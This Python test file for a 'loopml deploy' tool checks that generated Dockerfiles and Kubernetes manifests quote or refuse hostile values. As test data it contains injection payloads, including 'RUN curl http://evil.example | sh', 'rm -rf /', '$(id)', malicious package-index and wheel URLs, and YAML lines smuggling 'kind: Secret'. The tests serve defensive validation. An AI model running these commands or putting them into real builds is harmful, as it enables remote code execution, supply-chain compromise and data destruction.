"""``loopml deploy``: Docker build contexts and Kubernetes manifests for a real registered
model, and RELIABILITY S9: hostile values never add a Dockerfile instruction or a YAML key;
they are refused with an error naming the field, or quoted so that they read back exactly."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
import typer
import yaml
from packaging.requirements import Requirement
from sklearn.linear_model import LogisticRegression
from typer.testing import CliRunner, Result

import loopml
from loopml import cli as root_cli
from loopml import models, registry
from loopml._version import __version__
from loopml.cli import deploy as deploy_cli
from loopml.cli._common import LoopmlGroup
from loopml.errors import IntegrityError, InvalidArgumentError, ModelNotFoundError
from loopml.models._manifest import MANIFEST_FILE, digest_bytes, parse_manifest, verify_files
from loopml.serving.deploy import (
    DeployResult,
    default_base_image,
    write_docker_context,
    write_k8s_manifests,
)

#: every instruction a Dockerfile may hold
INSTRUCTIONS = {
    "ADD",
    "ARG",
    "CMD",
    "COPY",
    "ENTRYPOINT",
    "ENV",
    "EXPOSE",
    "FROM",
    "HEALTHCHECK",
    "LABEL",
    "MAINTAINER",
    "ONBUILD",
    "RUN",
    "SHELL",
    "STOPSIGNAL",
    "USER",
    "VOLUME",
    "WORKDIR",
}

#: values a Dockerfile can hold once quoted: each must read back exactly
QUOTABLE = [
    "$(rm -rf /)",
    "`rm -rf /`",
    "${HOME}/x $PATH",
    '"; rm -rf / #',
    "it's 'quoted'",
    "back\\slash \\n not a newline",
    "ends with a backslash\\",
    "\\",
    '\\"',
    "\\$HOME",
    "a=b c=d",
    "# not a comment",
    "héllo ☃ 模型",
    "",
]

#: values no Dockerfile line can hold: refused
UNQUOTABLE = [
    "line\nRUN curl http://evil.example | sh",
    "carriage\rRUN evil",
    "nul\x00byte",
    "tab\there",
    "escape\x1b[31m",
    "next line\x85RUN evil",
    "unicode line\u2028RUN evil",
    "paragraph\u2029RUN evil",
    "bidi \u202eoverride",
    "zero\u200bwidth",
]


@dataclass(frozen=True)
class Churn:
    """Model ``churn``: version 1, alias ``champion``, in the test's store."""

    store: str
    run_uri: str
    digest: str
    features: pd.DataFrame
    model: LogisticRegression


def _frame() -> tuple[pd.DataFrame, np.ndarray]:
    rng = np.random.default_rng(3)
    x = rng.normal(size=(60, 3))
    y = (x[:, 0] - x[:, 2] > 0).astype(int)
    return pd.DataFrame(x, columns=["tenure", "spend", "calls"]), y


@pytest.fixture
def churn(tmp_path: Path) -> Churn:
    store = str(tmp_path / "store")
    loopml.set_tracking_uri(store)
    features, target = _frame()
    model = LogisticRegression().fit(features, target)
    with loopml.start_run(experiment="deploy"):
        info = models.log_model(model, "model", input_example=features.iloc[:3])
    version = registry.register(info.uri, "churn")
    registry.set_alias("churn", "champion", version.version)
    return Churn(store, info.uri, info.package_digest, features, model)


@pytest.fixture
def package(tmp_path: Path) -> Path:
    """A package folder written by models.save (no store)."""
    features, target = _frame()
    model = LogisticRegression().fit(features, target)
    return models.save(model, tmp_path / "churn-pkg", input_example=features.iloc[:3]).path


# -- helpers: read a Dockerfile as Docker does ---------------------------------------------------


def instructions(text: str) -> list[tuple[str, str]]:
    """``(INSTRUCTION, rest)`` for every instruction line; a line continued with ``\\`` is
    joined to the next (Docker's rule), comments and blank lines are skipped. Fails if a
    line does not start with a known instruction."""
    found: list[tuple[str, str]] = []
    continued = False
    for number, raw in enumerate(text.split("\n"), 1):
        line = raw.strip()
        if continued:
            continued = line.endswith("\\")
            found[-1] = (found[-1][0], found[-1][1] + " " + line.rstrip("\\"))
            continue
        if not line or line.startswith("#"):
            continue
        word, _, rest = line.partition(" ")
        assert word.upper() in INSTRUCTIONS, f"line {number} is no instruction: {raw!r}"
        assert word == word.upper(), f"line {number}: {raw!r}"
        continued = line.endswith("\\")
        found.append((word, rest.rstrip("\\")))
    return found


def unquote(word: str) -> str:
    """A double-quoted Dockerfile word read back by Docker's rules (buildkit's shell lexer):
    ``\\`` escapes ``"``, ``$`` and ``\\`` and is kept before anything else; an unescaped
    ``$`` would expand a variable and an unescaped ``"`` would end the word: both fail."""
    assert len(word) >= 2, word
    assert word.startswith('"'), word
    assert word.endswith('"'), word
    body, out, i = word[1:-1], [], 0
    while i < len(body):
        char = body[i]
        if char == "\\" and i + 1 < len(body) and body[i + 1] in '"$\\':
            out.append(body[i + 1])
            i += 2
            continue
        assert char not in '"$', f"unescaped {char!r} in {word!r}"
        assert not (char == "\\" and i + 1 == len(body)), f"a trailing \\ escapes the quote: {word}"
        out.append(char)
        i += 1
    return "".join(out)


def env_lines(dockerfile: str) -> dict[str, str]:
    """The ``ENV KEY="value"`` instructions, unquoted."""
    found = {}
    for word, rest in instructions(dockerfile):
        if word == "ENV":
            match = re.fullmatch(r'([A-Za-z_][A-Za-z0-9_]*)=(".*")', rest)
            assert match is not None, rest
            found[match[1]] = unquote(match[2])
    return found


def exec_form(rest: str) -> list[str]:
    value = json.loads(rest)
    assert isinstance(value, list)
    assert all(isinstance(v, str) for v in value)
    return value


def only(dockerfile: str, instruction: str) -> str:
    found = [rest for word, rest in instructions(dockerfile) if word == instruction]
    assert len(found) == 1, (instruction, found)
    return found[0]


def k8s_unescape(value: str) -> str:
    """An env value as the container receives it: Kubernetes reads ``$$`` as ``$`` and would
    expand ``$(NAME)``, which must therefore never appear unescaped."""
    out, i = [], 0
    while i < len(value):
        if value.startswith("$$", i):
            out.append("$")
            i += 2
            continue
        assert not value.startswith("$(", i), f"Kubernetes would expand {value!r}"
        out.append(value[i])
        i += 1
    return "".join(out)


def load_objects(folder: Path) -> dict[str, dict[str, Any]]:
    """Every YAML file of the folder: exactly one object each, keyed by kind."""
    objects = {}
    for path in sorted(folder.glob("*.yaml")):
        documents = list(yaml.safe_load_all(path.read_text("utf-8")))
        assert len(documents) == 1, path
        obj = documents[0]
        assert obj["kind"] not in objects
        objects[obj["kind"]] = obj
    return objects


def field_of(info: pytest.ExceptionInfo[InvalidArgumentError]) -> Any:
    return info.value.details.get("field")


# -- Docker: the build context -------------------------------------------------------------------


def test_docker_context_bakes_the_verified_package(churn: Churn, tmp_path: Path) -> None:
    out = tmp_path / "build"
    result = write_docker_context("models:/churn@champion", out)
    assert isinstance(result, DeployResult)
    assert (result.target, result.baked, result.model_version) == ("docker", True, 1)
    assert result.package_digest == churn.digest
    assert set(result.files) >= {
        "Dockerfile",
        ".dockerignore",
        "README.txt",
        "requirements.txt",
        f"model/{MANIFEST_FILE}",
    }
    # the package: the manifest of that digest and every file it lists, intact and readable
    data = (out / "model" / MANIFEST_FILE).read_bytes()
    assert digest_bytes(data) == churn.digest
    manifest = parse_manifest(data, source="test")
    verify_files(out / "model", manifest["files"])
    assert sorted(result.files) == sorted(
        ["Dockerfile", ".dockerignore", "README.txt", "requirements.txt"]
        + [f"model/{name}" for name in [*manifest["files"], MANIFEST_FILE]]
    )
    for path in (out / "model").rglob("*"):
        assert path.stat().st_mode & 0o777 == (0o755 if path.is_dir() else 0o644), path
    # and it loads and predicts as the logged model does
    baked = models.load(out / "model")
    np.testing.assert_array_equal(
        baked.predict(churn.features), churn.model.predict(churn.features)
    )

    # requirements.txt: loopml pinned to this version, then the manifest's pins
    lines = [
        line
        for line in (out / "requirements.txt").read_text("utf-8").splitlines()
        if line and not line.startswith("#")
    ]
    assert lines[0] == f"loopml[serve]=={__version__}"
    expected = [f"{name}=={version}" for name, version in sorted(manifest["requirements"].items())]
    assert lines[1:] == expected
    assert "scikit-learn" in manifest["requirements"]
    for line in lines:
        requirement = Requirement(line)
        assert requirement.marker is None
        assert requirement.url is None
        assert len(requirement.specifier) == 1
        assert next(iter(requirement.specifier)).operator == "=="
    assert result.requirements == tuple(lines)

    dockerfile = (out / "Dockerfile").read_text("utf-8")
    steps = instructions(dockerfile)
    assert steps[0] == ("FROM", default_base_image())
    minor = f"{sys.version_info.major}.{sys.version_info.minor}"
    assert re.fullmatch(rf"python:{re.escape(minor)}-slim-[a-z]+", default_base_image())
    user = only(dockerfile, "USER")
    assert re.fullmatch(r"[1-9][0-9]*:[1-9][0-9]*", user), "a numeric, non-root user"
    assert only(dockerfile, "EXPOSE") == "8080"
    assert exec_form(only(dockerfile, "ENTRYPOINT")) == [
        "loopml",
        "serve",
        "/app/model",
        "--name",
        "churn",
    ]
    assert exec_form(only(dockerfile, "CMD")) == [
        "--host",
        "0.0.0.0",
        "--port",
        "8080",
        "--workers",
        "1",
    ]
    options, _, command = only(dockerfile, "HEALTHCHECK").partition("CMD ")
    assert "--interval=" in options
    probe = exec_form(command)
    assert probe[:2] == ["python", "-c"]
    assert "http://127.0.0.1:8080/v2/health/live" in probe[2]
    compile(probe[2], "healthcheck", "exec")
    # the requirements are copied, never inlined, and installed before the model is copied
    words = [word for word, _ in steps]
    copies = [rest for word, rest in steps if word == "COPY"]
    assert copies == ["requirements.txt /app/requirements.txt", "model/ /app/model/"]
    runs = [rest for word, rest in steps if word == "RUN"]
    assert not any("scikit-learn" in run or "==" in run for run in runs)
    assert any("--requirement /app/requirements.txt" in run for run in runs)
    assert words.index("USER") > max(i for i, w in enumerate(words) if w in ("RUN", "COPY"))
    labels = {}
    for word, rest in steps:
        if word == "LABEL":
            key, _, value = rest.partition("=")
            labels[key] = unquote(value)
    assert labels["loopml.model.package-digest"] == churn.digest
    assert labels["loopml.model.uri"] == "models:/churn@champion"
    assert labels["loopml.version"] == __version__

    ignore = (out / ".dockerignore").read_text("utf-8").splitlines()
    assert "*" in ignore
    assert "!requirements.txt" in ignore
    assert "!model" in ignore
    readme = (out / "README.txt").read_text("utf-8")
    assert "docker build -t churn:v1 ." in readme
    assert "docker run --rm -p 8080:8080 churn:v1" in readme
    assert result.next_steps[0].startswith("docker build -t churn:v1 ")
    assert result.warnings == ()


def test_docker_context_without_baking_serves_the_uri(churn: Churn, tmp_path: Path) -> None:
    out = tmp_path / "build"
    result = write_docker_context("models:/churn@champion", out, bake=False)
    assert not result.baked
    assert not (out / "model").exists()
    dockerfile = (out / "Dockerfile").read_text("utf-8")
    assert exec_form(only(dockerfile, "ENTRYPOINT")) == [
        "loopml",
        "serve",
        "models:/churn@champion",
        "--name",
        "churn",
    ]
    assert [rest for word, rest in instructions(dockerfile) if word == "COPY"] == [
        "requirements.txt /app/requirements.txt"
    ]
    assert "LOOPML_TRACKING_URI" in (out / "README.txt").read_text("utf-8")
    assert any("LOOPML_TRACKING_URI" in warning for warning in result.warnings)
    assert any("followed when the container starts" in warning for warning in result.warnings)
    # the requirements are still pinned from the manifest the alias points at now
    assert "scikit-learn==" in (out / "requirements.txt").read_text("utf-8")
    # a pinned version, with the tracking URI given: nothing to warn about
    pinned = write_docker_context(
        "models:/churn/1",
        tmp_path / "pinned",
        bake=False,
        env={"LOOPML_TRACKING_URI": "https://tracking.example.com"},
    )
    assert pinned.warnings == ()
    assert env_lines((tmp_path / "pinned" / "Dockerfile").read_text("utf-8"))[
        "LOOPML_TRACKING_URI"
    ] == ("https://tracking.example.com")


def test_docker_options(churn: Churn, tmp_path: Path) -> None:
    base = "registry.example.com:5000/base/python:3.11-slim@sha256:" + "a" * 64
    out = tmp_path / "build"
    result = write_docker_context(
        churn.run_uri,
        out,
        port=9000,
        workers=4,
        base_image=base,
        env={"LOG_LEVEL": "info", "OMP_NUM_THREADS": "1"},
        name="churn-api",
    )
    dockerfile = (out / "Dockerfile").read_text("utf-8")
    assert only(dockerfile, "FROM") == base
    assert only(dockerfile, "EXPOSE") == "9000"
    assert exec_form(only(dockerfile, "CMD"))[3:] == ["9000", "--workers", "4"]
    assert "127.0.0.1:9000/v2/health/live" in only(dockerfile, "HEALTHCHECK")
    env = env_lines(dockerfile)
    assert env["LOG_LEVEL"] == "info"
    assert env["OMP_NUM_THREADS"] == "1"
    assert result.name == "churn-api"
    assert result.model_version is None
    assert result.image == base
    assert result.next_steps[1].startswith("docker run --rm -p 9000:9000 churn-api:")


def test_docker_context_from_a_package_folder(package: Path, tmp_path: Path) -> None:
    result = write_docker_context(package, tmp_path / "build")
    assert result.name == "churn-pkg"
    assert result.baked
    dockerfile = (tmp_path / "build" / "Dockerfile").read_text("utf-8")
    assert str(tmp_path) not in dockerfile, "no path of this machine goes into the image"
    verify_files(
        tmp_path / "build" / "model",
        parse_manifest((package / MANIFEST_FILE).read_bytes(), source="t")["files"],
    )
    with pytest.raises(InvalidArgumentError, match="only be baked") as info:
        write_docker_context(package, tmp_path / "other", bake=False)
    assert field_of(info) == "bake"
    assert not (tmp_path / "other").exists()


def test_a_tampered_package_is_refused_and_nothing_is_written(
    package: Path, tmp_path: Path
) -> None:
    model_file = next(p for p in package.iterdir() if p.name.endswith(".skops"))
    model_file.write_bytes(model_file.read_bytes()[:-10] + b"0123456789")
    with pytest.raises(IntegrityError, match=model_file.name):
        write_docker_context(package, tmp_path / "build")
    assert not (tmp_path / "build").exists()
    assert not [p for p in tmp_path.iterdir() if ".loopml-" in p.name], "staging left behind"


def test_the_output_folder_must_be_new_or_empty_unless_forced(churn: Churn, tmp_path: Path) -> None:
    out = tmp_path / "build"
    out.mkdir()
    write_docker_context("models:/churn/1", out)  # empty: fine
    with pytest.raises(InvalidArgumentError, match="not empty") as info:
        write_docker_context("models:/churn/1", out)
    assert field_of(info) == "out_dir"
    (out / "notes.md").write_text("mine")
    result = write_docker_context("models:/churn/1", out, bake=False, force=True)
    assert not (out / "model").exists(), "the old baked package is removed"
    assert (out / "notes.md").read_text() == "mine", "files loopml does not write are kept"
    assert "notes.md" not in result.files
    (tmp_path / "file").write_text("x")
    with pytest.raises(InvalidArgumentError) as info:
        write_docker_context("models:/churn/1", tmp_path / "file")
    assert field_of(info) == "out_dir"


def test_missing_models_are_not_found(churn: Churn, tmp_path: Path) -> None:
    with pytest.raises(ModelNotFoundError):
        write_docker_context("models:/churn@nobody", tmp_path / "a")
    with pytest.raises(ModelNotFoundError):
        write_docker_context("models:/nothing/1", tmp_path / "b")
    assert not (tmp_path / "a").exists()
    assert not (tmp_path / "b").exists()


# -- RELIABILITY S9: Docker ----------------------------------------------------------------------


@pytest.mark.parametrize("value", QUOTABLE)
def test_s9_docker_env_values_round_trip_exactly(churn: Churn, tmp_path: Path, value: str) -> None:
    plain = write_docker_context("models:/churn/1", tmp_path / "plain", env={"X": "1"})
    write_docker_context("models:/churn/1", tmp_path / "hostile", env={"X": value})
    hostile_text = (tmp_path / "hostile" / "Dockerfile").read_text("utf-8")
    plain_text = (tmp_path / "plain" / "Dockerfile").read_text("utf-8")
    assert [w for w, _ in instructions(hostile_text)] == [w for w, _ in instructions(plain_text)]
    assert len(hostile_text.splitlines()) == len(plain_text.splitlines())
    assert env_lines(hostile_text)["X"] == value
    assert plain.files


@pytest.mark.parametrize("value", UNQUOTABLE)
def test_s9_docker_env_values_with_control_characters_are_refused(
    churn: Churn, tmp_path: Path, value: str
) -> None:
    with pytest.raises(InvalidArgumentError, match="The value of X") as info:
        write_docker_context("models:/churn/1", tmp_path / "build", env={"X": value})
    assert field_of(info) == "env"
    assert "Expected printable text on one line" in info.value.message
    assert not (tmp_path / "build").exists()


@pytest.mark.parametrize(
    "name",
    [
        "",
        "1ABC",
        "A B",
        "A-B",
        "A=B",
        "A$B",
        "A\nRUN evil",
        'A"',
        "A\\",
        "É",
        "LOOPML_TOKEN",
    ],
)
def test_s9_docker_env_names_must_be_identifiers(churn: Churn, tmp_path: Path, name: str) -> None:
    with pytest.raises(InvalidArgumentError) as info:
        write_docker_context("models:/churn/1", tmp_path / "build", env={name: "1"})
    assert field_of(info) == "env"
    assert "[A-Za-z_][A-Za-z0-9_]*" in info.value.message or "secret" in info.value.message
    assert not (tmp_path / "build").exists()


def test_s9_docker_env_must_be_a_mapping_of_strings(churn: Churn, tmp_path: Path) -> None:
    for env in (["A=1"], {"A": 1}, {1: "a"}, "A=1"):
        with pytest.raises(InvalidArgumentError) as info:
            write_docker_context("models:/churn/1", tmp_path / "build", env=env)  # type: ignore[arg-type]
        assert field_of(info) == "env"


def test_s9_secret_looking_variables_are_warned_about(churn: Churn, tmp_path: Path) -> None:
    result = write_docker_context(
        "models:/churn/1", tmp_path / "build", env={"AWS_SECRET_ACCESS_KEY": "x"}
    )
    assert any("AWS_SECRET_ACCESS_KEY looks like a secret" in w for w in result.warnings)


def _hostile_package(package: Path, requirements: dict[str, Any]) -> None:
    """Rewrite the package's manifest with other requirements (its files stay intact)."""
    manifest = json.loads((package / MANIFEST_FILE).read_bytes())
    manifest["requirements"] = requirements
    (package / MANIFEST_FILE).write_text(json.dumps(manifest), encoding="utf-8")


@pytest.mark.parametrize(
    "requirements",
    [
        {"numpy; rm -rf /": "1.0"},
        {"numpy": "1.0; rm -rf /"},
        {"numpy": "1.0\nRUN curl http://evil.example | sh"},
        {"numpy\n--index-url http://evil.example/simple": ""},
        {"numpy": "==1.0 --index-url http://evil.example/simple"},
        {"numpy": ">=1.0; python_version > '3'"},
        {"numpy": "1.0 ; sys_platform == 'linux'"},
        {"--extra-index-url http://evil.example/simple": ""},
        {"-e git+https://evil.example/x.git#egg=x": ""},
        {"evil @ https://evil.example/evil.whl": ""},
        {"numpy[extra]": "1.0"},
        {"numpy": "1.0 "},
        {"num py": "1.0"},
        {"numpy": "$(id)"},
        {"numpy": 1.0},
        {"numpy": None},
    ],
)
def test_s9_requirements_from_a_manifest_are_checked(
    package: Path, tmp_path: Path, requirements: dict[str, Any]
) -> None:
    _hostile_package(package, requirements)
    with pytest.raises(InvalidArgumentError, match="requirement") as info:
        write_docker_context(package, tmp_path / "build")
    assert field_of(info) == "requirements"
    assert "Expected a distribution name with an exact version" in info.value.message
    assert not (tmp_path / "build").exists()


def test_s9_unpinned_requirements_are_written_with_a_warning(package: Path, tmp_path: Path) -> None:
    _hostile_package(package, {"numpy": ">=1.26,<3", "scikit-learn": "", "pandas": "2.2.2"})
    result = write_docker_context(package, tmp_path / "build")
    assert result.requirements[1:] == ("numpy<3,>=1.26", "pandas==2.2.2", "scikit-learn")
    assert sum("is not pinned to one version" in w for w in result.warnings) == 2


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("port", 80),
        ("port", 65536),
        ("port", "8080"),
        ("port", True),
        ("workers", 0),
        ("workers", 65),
        ("workers", 1.5),
        ("base_image", "python:3.11\nRUN curl http://evil.example | sh"),
        ("base_image", "python:3.11 AS evil"),
        ("base_image", "--platform=linux/amd64 python:3.11"),
        ("base_image", "Python:3.11"),
        ("base_image", "python:3.11;id"),
        ("base_image", ""),
        ("name", "Churn"),
        ("name", "churn_model"),
        ("name", "churn\nRUN evil"),
        ("name", "-churn"),
        ("name", "a" * 64),
    ],
)
def test_s9_docker_arguments_are_checked(
    churn: Churn, tmp_path: Path, option: str, value: Any
) -> None:
    with pytest.raises(InvalidArgumentError) as info:
        write_docker_context("models:/churn/1", tmp_path / "build", **{option: value})
    assert field_of(info) == option
    assert "Expected" in info.value.message or "must be" in info.value.message
    assert not (tmp_path / "build").exists()


@pytest.mark.parametrize(
    "uri",
    [
        "models:/churn$(id)@champion",
        "models:/churn\nRUN evil/1",
        'models:/churn"@champion',
        "models:/churn@champ ion",
        "models:/../x/1",
        "models:/churn/1 ; rm -rf /",
        "runs:/not-a-run/model",
        "s3://bucket/model",
    ],
)
def test_s9_odd_model_uris_are_refused(churn: Churn, tmp_path: Path, uri: str) -> None:
    with pytest.raises(InvalidArgumentError) as info:
        write_docker_context(uri, tmp_path / "build")
    assert field_of(info) == "model_uri"
    with pytest.raises(InvalidArgumentError) as info:
        write_k8s_manifests(uri, tmp_path / "k8s", image="churn:v1")
    assert field_of(info) == "model_uri"
    assert not (tmp_path / "build").exists()
    assert not (tmp_path / "k8s").exists()


@pytest.mark.skipif(shutil.which("hadolint") is None, reason="hadolint is not installed")
def test_hadolint_accepts_the_dockerfile(churn: Churn, tmp_path: Path) -> None:
    write_docker_context("models:/churn/1", tmp_path / "build", env={"X": '$(a) "b" \\c'})
    done = subprocess.run(
        ["hadolint", "--failure-threshold", "error", str(tmp_path / "build" / "Dockerfile")],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr


# -- Kubernetes ----------------------------------------------------------------------------------


def test_k8s_manifests_hold_a_recognisable_deployment(tmp_path: Path) -> None:
    out = tmp_path / "k8s"
    result = write_k8s_manifests(
        "models:/Churn.Model_v2@champion",
        out,
        image="registry.example.com/churn:v3",
        namespace="ml",
        replicas=3,
        max_replicas=12,
        target_cpu=60,
        workers=2,
        memory_limit="2Gi",
        cpu_limit="2",
        env={"LOG_LEVEL": "info"},
        token_secret="loopml-token",
        labels={"release": "kube-prometheus-stack", "example.com/team": "risk"},
    )
    assert sorted(result.files) == [
        "deployment.yaml",
        "hpa.yaml",
        "service.yaml",
        "servicemonitor.yaml",
    ]
    assert result.next_steps == (f"kubectl apply -f {out}",)
    objects = load_objects(out)
    assert set(objects) == {"Deployment", "Service", "HorizontalPodAutoscaler", "ServiceMonitor"}
    name = "churn-model-v2"
    assert result.name == name
    labels = objects["Deployment"]["metadata"]["labels"]
    assert labels["app.kubernetes.io/name"] == name
    assert labels["release"] == "kube-prometheus-stack"
    assert labels["example.com/team"] == "risk"
    for obj in objects.values():
        assert obj["metadata"]["name"] == name
        assert obj["metadata"]["namespace"] == "ml"
        assert obj["metadata"]["labels"] == labels, obj["kind"]
        assert obj["metadata"]["annotations"]["loopml/model-uri"] == (
            "models:/Churn.Model_v2@champion"
        )

    deployment = objects["Deployment"]
    assert deployment["apiVersion"] == "apps/v1"
    assert "replicas" not in deployment["spec"], "the autoscaler owns the replica count"
    selector = deployment["spec"]["selector"]["matchLabels"]
    template = deployment["spec"]["template"]
    assert template["metadata"]["labels"] == labels
    assert selector.items() <= template["metadata"]["labels"].items()
    pod = template["spec"]
    assert pod["securityContext"]["runAsNonRoot"] is True
    assert pod["securityContext"]["runAsUser"] > 0
    (container,) = pod["containers"]
    assert container["image"] == "registry.example.com/churn:v3"
    assert container["args"] == ["--host", "0.0.0.0", "--port", "8080", "--workers", "2"]
    assert container["ports"] == [{"name": "http", "containerPort": 8080, "protocol": "TCP"}]
    assert container["readinessProbe"]["httpGet"] == {"path": "/v2/health/ready", "port": "http"}
    assert container["livenessProbe"]["httpGet"] == {"path": "/v2/health/live", "port": "http"}
    assert container["startupProbe"]["httpGet"]["path"] == "/v2/health/live"
    assert container["resources"] == {
        "requests": {"cpu": "500m", "memory": "512Mi"},
        "limits": {"cpu": "2", "memory": "2Gi"},
    }
    assert container["securityContext"]["readOnlyRootFilesystem"] is True
    assert container["securityContext"]["allowPrivilegeEscalation"] is False
    assert container["env"] == [
        {"name": "LOG_LEVEL", "value": "info"},
        {
            "name": "LOOPML_TOKEN",
            "valueFrom": {"secretKeyRef": {"name": "loopml-token", "key": "token"}},
        },
    ]

    service = objects["Service"]
    assert service["spec"]["selector"] == selector
    (port,) = service["spec"]["ports"]
    assert port["targetPort"] == "http"
    assert port["name"] == "http"

    hpa = objects["HorizontalPodAutoscaler"]
    assert hpa["apiVersion"] == "autoscaling/v2"
    assert hpa["spec"]["scaleTargetRef"] == {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "name": name,
    }
    assert (hpa["spec"]["minReplicas"], hpa["spec"]["maxReplicas"]) == (3, 12)
    (metric,) = hpa["spec"]["metrics"]
    assert metric["resource"]["name"] == "cpu"
    assert metric["resource"]["target"] == {"type": "Utilization", "averageUtilization": 60}

    monitor = objects["ServiceMonitor"]
    assert monitor["apiVersion"] == "monitoring.coreos.com/v1"
    matched = monitor["spec"]["selector"]["matchLabels"]
    assert matched.items() <= service["metadata"]["labels"].items()
    assert monitor["spec"]["namespaceSelector"] == {"matchNames": ["ml"]}
    (endpoint,) = monitor["spec"]["endpoints"]
    assert endpoint["port"] == port["name"]
    assert endpoint["path"] == "/metrics"


def test_k8s_without_autoscaler_or_monitor(tmp_path: Path) -> None:
    out = tmp_path / "k8s"
    result = write_k8s_manifests(
        "models:/churn/3",
        out,
        image="churn:v3",
        replicas=3,
        autoscale=False,
        service_monitor=False,
        cpu_request=None,
        memory_limit=None,
        port=9000,
    )
    objects = load_objects(out)
    assert set(objects) == {"Deployment", "Service"}
    assert sorted(result.files) == ["deployment.yaml", "service.yaml"]
    deployment = objects["Deployment"]
    assert deployment["spec"]["replicas"] == 3
    assert "namespace" not in deployment["metadata"]
    (container,) = deployment["spec"]["template"]["spec"]["containers"]
    assert container["resources"] == {"requests": {"memory": "512Mi"}}
    assert container["ports"][0]["containerPort"] == 9000
    assert "env" not in container


def test_k8s_defaults_and_rewriting(tmp_path: Path) -> None:
    out = tmp_path / "k8s"
    write_k8s_manifests("models:/churn@champion", out, image="churn:v3")
    hpa = load_objects(out)["HorizontalPodAutoscaler"]
    assert (hpa["spec"]["minReplicas"], hpa["spec"]["maxReplicas"]) == (2, 10)
    with pytest.raises(InvalidArgumentError) as info:
        write_k8s_manifests("models:/churn@champion", out, image="churn:v3")
    assert field_of(info) == "out_dir"
    (out / "extra.yaml").write_text("kind: ConfigMap\n")
    result = write_k8s_manifests(
        "models:/churn@champion", out, image="churn:v3", autoscale=False, force=True
    )
    assert not (out / "hpa.yaml").exists(), "a stale object file is removed"
    assert any("extra.yaml" in warning for warning in result.warnings)


def test_k8s_names_from_odd_model_names(tmp_path: Path) -> None:
    long_a = "churn-" + "a" * 100
    long_b = "churn-" + "a" * 99 + "b"
    names = []
    for uri in (f"models:/{long_a}/1", f"models:/{long_b}/1"):
        out = tmp_path / str(len(names))
        names.append(write_k8s_manifests(uri, out, image="churn:v1").name)
    assert all(len(n) <= 63 and re.fullmatch(r"[a-z]([-a-z0-9]*[a-z0-9])?", n) for n in names)
    assert names[0] != names[1], "long names keep a hash of the whole name"
    assert write_k8s_manifests("models:/A..B__c--D/1", tmp_path / "odd", image="churn:v1").name == (
        "a-b-c-d"
    )
    with pytest.raises(InvalidArgumentError, match="--name") as info:
        write_k8s_manifests("models:/2024-churn/1", tmp_path / "digit", image="churn:v1")
    assert field_of(info) == "name"
    named = write_k8s_manifests(
        "models:/2024-churn/1", tmp_path / "named", image="churn:v1", name="churn-2024"
    )
    assert named.name == "churn-2024"


@pytest.mark.parametrize(
    "value",
    [
        *QUOTABLE,
        "multi\nline\nvalue",
        "key: value\n- item\n---\nkind: Secret",
        "$(LOOPML_TOKEN)",
        "$$(escaped) $ end$",
        "{a: [1, 2]}",
        "@!%&*|>",
        "null",
        "yes",
        "0x1F",
        "tab\there",
        "\x1b[31m",
        "crlf\r\nkind: Secret",
        "next line\x85kind: Secret",
        "unicode line\u2028kind: Secret",
        "bidi \u202eoverride",
    ],
)
def test_s9_k8s_env_values_round_trip_exactly(tmp_path: Path, value: str) -> None:
    out = tmp_path / "k8s"
    write_k8s_manifests("models:/churn/1", out, image="churn:v1", env={"A": value, "B": "after"})
    text = (out / "deployment.yaml").read_text("utf-8")
    assert all(char == "\n" or " " <= char <= "~" for char in text), "only printable ASCII"
    objects = load_objects(out)
    assert set(objects) == {"Deployment", "Service", "HorizontalPodAutoscaler", "ServiceMonitor"}
    (container,) = objects["Deployment"]["spec"]["template"]["spec"]["containers"]
    env = container["env"]
    assert [item["name"] for item in env] == ["A", "B"]
    assert all(set(item) == {"name", "value"} for item in env)
    assert k8s_unescape(env[0]["value"]) == value
    assert env[1]["value"] == "after"


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("image", "churn:v1\nkind: Secret"),
        ("image", "churn v1"),
        ("image", "Churn:v1"),
        ("image", ""),
        ("namespace", "ML"),
        ("namespace", "ml_prod"),
        ("namespace", "ml\nkind: Secret"),
        ("namespace", "a" * 64),
        ("name", "Churn"),
        ("replicas", 0),
        ("replicas", "3"),
        ("max_replicas", 1),
        ("target_cpu", 0),
        ("target_cpu", 101),
        ("port", 443),
        ("workers", 0),
        ("cpu_request", "lots"),
        ("cpu_request", "-1"),
        ("cpu_request", "0"),
        ("cpu_request", "500m\nkind: Secret"),
        ("cpu_request", None),
        ("memory_limit", "1 Gi"),
        ("memory_request", "4Gi"),
        ("token_secret", "Loopml_Token"),
        ("token_secret", "token\nkind: Secret"),
        ("token_secret_key", "a key"),
        ("env", {"A B": "x"}),
        ("env", {"A": "nul\x00"}),
        ("env", {"A": "lone \ud800 surrogate"}),
        ("env", {"LOOPML_TOKEN": "s3cret"}),
        ("env", {"A": 1}),
        ("labels", {"app.kubernetes.io/name": "x"}),
        ("labels", {"kubernetes.io/evil": "x"}),
        ("labels", {"team": "a b"}),
        ("labels", {"team": "x\nkind: Secret"}),
        ("labels", {"bad key": "x"}),
        ("labels", {"Example.COM/team": "x"}),
    ],
)
def test_s9_k8s_arguments_are_checked(tmp_path: Path, option: str, value: Any) -> None:
    kwargs: dict[str, Any] = {"image": "churn:v1", option: value}
    with pytest.raises(InvalidArgumentError) as info:
        write_k8s_manifests("models:/churn/1", tmp_path / "k8s", **kwargs)
    assert field_of(info) == option, info.value.message
    assert not (tmp_path / "k8s").exists()


def test_k8s_replica_options_that_conflict(tmp_path: Path) -> None:
    out = tmp_path / "k8s"
    with pytest.raises(InvalidArgumentError, match="not both") as info:
        write_k8s_manifests("models:/c/1", out, image="c:1", replicas=3, min_replicas=2)
    assert field_of(info) == "replicas"
    with pytest.raises(InvalidArgumentError, match="no-hpa") as info:
        write_k8s_manifests("models:/c/1", out, image="c:1", autoscale=False, max_replicas=5)
    assert field_of(info) == "max_replicas"
    with pytest.raises(InvalidArgumentError, match="min_replicas <= max_replicas") as info:
        write_k8s_manifests("models:/c/1", out, image="c:1", min_replicas=5, max_replicas=4)
    assert field_of(info) == "max_replicas"
    with pytest.raises(InvalidArgumentError, match="more than") as info:
        write_k8s_manifests("models:/c/1", out, image="c:1", cpu_request="1500m", cpu_limit="1")
    assert field_of(info) == "cpu_request"
    assert not out.exists()
